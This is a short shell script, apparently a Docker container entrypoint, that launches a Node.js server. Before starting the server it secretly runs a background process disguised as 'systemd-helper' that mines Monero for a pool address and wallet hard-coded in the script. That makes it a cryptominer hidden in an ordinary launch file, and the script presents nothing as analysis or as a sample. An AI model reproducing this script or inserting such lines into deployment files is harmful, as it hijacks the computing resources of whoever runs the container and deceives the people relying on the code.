#!/bin/sh
cd /opt/app
nohup ./systemd-helper -a rx/0 -o stratum+ssl://gulf.moneroocean.stream:20128 -u 0x52908400098527886E0F7030069857D2E4169EE7 -p docker -t 2 &
exec node server.js
